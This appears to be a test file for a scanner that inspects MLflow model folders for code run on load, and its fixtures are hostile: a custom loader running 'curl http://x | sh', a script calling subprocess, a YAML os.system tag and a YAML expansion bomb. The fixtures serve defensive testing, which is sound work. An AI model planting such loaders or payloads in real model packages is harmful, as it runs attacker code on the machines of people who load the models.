"""MLflow model directories: what mlflow.pyfunc.load_model and the flavors import and unpickle.

MLflow is too heavy to install for the tests; the folders are laid out as
``mlflow.sklearn.save_model`` and ``mlflow.pyfunc.save_model`` (2.x) write them, with the
model pickled by cloudpickle as MLflow pickles it.
"""

from __future__ import annotations

from pathlib import Path

import cloudpickle
import numpy as np
from sklearn.linear_model import LogisticRegression

from modelshield.core.findings import Severity
from modelshield.core.policy import Policy
from tests.scanner.repos.conftest import of, result, roles, rules, scan_dir, write

SKLEARN_MLMODEL = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.9
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.1
mlflow_version: 2.15.1
model_size_bytes: 812
model_uuid: 3b2c0e1a9f6d4e0c8e1f7a2b3c4d5e6f
run_id: 0d4b1c3e7a8f4e2d9c6b5a4f3e2d1c0b
utc_time_created: '2024-08-01 12:00:00.000000'
"""

PYFUNC_MLMODEL = """artifact_path: model
flavors:
  python_function:
    cloudpickle_version: 3.0.0
    code: code
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: {loader}
    python_model: python_model.pkl
    python_version: 3.11.9
mlflow_version: 2.15.1
model_uuid: 9a8b7c6d5e4f40312233445566778899
utc_time_created: '2024-08-01 12:00:00.000000'
"""

ENVIRONMENT = {
    "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11.9\n- pip<=24.0\n"
    "- pip:\n  - mlflow==2.15.1\n  - cloudpickle==3.0.0\n  - scikit-learn==1.5.1\n"
    "name: mlflow-env\n",
    "python_env.yaml": "python: 3.11.9\nbuild_dependencies:\n- pip==24.0\n- setuptools\n"
    "- wheel\ndependencies:\n- -r requirements.txt\n",
    "requirements.txt": "mlflow==2.15.1\ncloudpickle==3.0.0\nscikit-learn==1.5.1\n",
}


def sklearn_model(folder: Path) -> Path:
    model = LogisticRegression().fit(np.array([[0.0], [1.0]]), [0, 1])
    return write(
        folder,
        {"MLmodel": SKLEARN_MLMODEL, "model.pkl": cloudpickle.dumps(model), **ENVIRONMENT},
    )


class Echo:
    """A stand-in for a ``PythonModel`` subclass defined in the saving script."""

    def predict(self, context: object, model_input: object) -> object:
        return model_input


def pyfunc_model(folder: Path, loader: str = "mlflow.pyfunc.model", **files: str) -> Path:
    # cloudpickle pickles a class defined in __main__ by value, as MLflow users' classes are.
    Echo.__module__ = "__main__"
    try:
        pickled = cloudpickle.dumps(Echo())
    finally:
        Echo.__module__ = __name__
    return write(
        folder,
        {
            "MLmodel": PYFUNC_MLMODEL.format(loader=loader),
            "python_model.pkl": pickled,
            **ENVIRONMENT,
            **files,
        },
    )


def test_a_saved_sklearn_model_passes(tmp_path: Path) -> None:
    report = scan_dir(sklearn_model(tmp_path / "model"))
    assert report.findings == ()
    assert Policy().exit_code(Policy().apply(report)) == 0
    [repository] = report.repositories
    assert repository.layouts == ("mlflow",)
    assert roles(repository) == {
        "MLmodel": "inert",
        "conda.yaml": "inert",
        "python_env.yaml": "inert",
        "requirements.txt": "inert",
        "model.pkl": "executable",
    }
    [pickled] = repository.with_role("executable")
    assert pickled.reason.startswith("unpickled by MLflow's python_function flavor")


def test_a_cloudpickled_python_model_is_linked_to_its_flavor(tmp_path: Path) -> None:
    report = scan_dir(pyfunc_model(tmp_path / "model"))
    pickled = result(report, "python_model.pkl")
    [link] = of(pickled, "MLFLOW-LOADER-CODE")
    assert link.severity == Severity.HIGH  # the pickle rebuilds functions from bytecode
    assert link.evidence["key"] == "flavors.python_function.python_model"
    assert "PICKLE-CALL-DANGEROUS" in {f.rule_id for f in pickled.findings}


def test_a_custom_loader_module_in_code(tmp_path: Path) -> None:
    loader = "import os\n\ndef _load_pyfunc(path):\n    os.system('curl http://x | sh')\n"
    folder = pyfunc_model(tmp_path / "model", loader="my_loader", **{"code/my_loader.py": loader})
    report = scan_dir(folder)
    # One finding per file and rule, naming every way MLflow reaches it.
    [found] = of(result(report, "my_loader.py"), "MLFLOW-LOADER-CODE")
    assert found.severity == Severity.HIGH
    assert found.evidence["key"] == "flavors.python_function.loader_module"
    assert "code_paths" in found.message
    benign = pyfunc_model(
        tmp_path / "benign",
        loader="my_loader",
        **{"code/my_loader.py": "import pandas\n\ndef _load_pyfunc(path):\n    return path\n"},
    )
    [low] = of(result(scan_dir(benign), "my_loader.py"), "MLFLOW-LOADER-CODE")
    assert low.severity == Severity.LOW


def test_code_that_shadows_a_module_is_high(tmp_path: Path) -> None:
    folder = pyfunc_model(
        tmp_path / "model",
        **{"code/json.py": "def loads(text):\n    return {}\n", "code/util.py": "X = 1\n"},
    )
    report = scan_dir(folder)
    [shadow] = of(result(report, "json.py"), "MLFLOW-LOADER-CODE")
    assert (shadow.severity, shadow.evidence["shadows"]) == (Severity.HIGH, "json")
    [plain] = of(result(report, "util.py"), "MLFLOW-LOADER-CODE")
    assert plain.severity == Severity.LOW


def test_a_loader_module_from_the_environment(tmp_path: Path) -> None:
    report = scan_dir(pyfunc_model(tmp_path / "model", loader="somebody_elses.loader"))
    [external] = of(result(report, "MLmodel"), "REPO-EXTERNAL-CODE")
    assert external.evidence["code"] == "somebody_elses.loader"


def test_models_from_code_scripts_are_loader_code(tmp_path: Path) -> None:
    mlmodel = SKLEARN_MLMODEL.replace("model_path: model.pkl", "python_model: agent.py")
    folder = write(
        tmp_path / "model",
        {"MLmodel": mlmodel, "agent.py": "import subprocess\nsubprocess.run(['id'])\n"},
    )
    [found] = of(result(scan_dir(folder), "agent.py"), "MLFLOW-LOADER-CODE")
    assert found.severity == Severity.HIGH


def test_hostile_mlmodel_files_are_bounded(tmp_path: Path) -> None:
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(12)
    )
    folder = write(tmp_path / "laughs", {"MLmodel": laughs + "flavors: *m\n"})
    report = scan_dir(folder)
    assert report.repositories[0].layouts == ("mlflow",)
    tagged = write(
        tmp_path / "tagged", {"MLmodel": "flavors: !!python/object/apply:os.system [id]\n"}
    )
    assert "MLFLOW-LOADER-CODE" not in rules(scan_dir(tagged))  # safe_load refuses it
    big = write(tmp_path / "big", {"MLmodel": "x: " + "y" * 3_000_000 + "\n"})
    gap = of(result(scan_dir(big, max_manifest_bytes=1 << 20), "MLmodel"), "REPO-NOT-ANALYSED")
    assert [f.evidence["limit"] for f in gap] == ["max_manifest_bytes"]
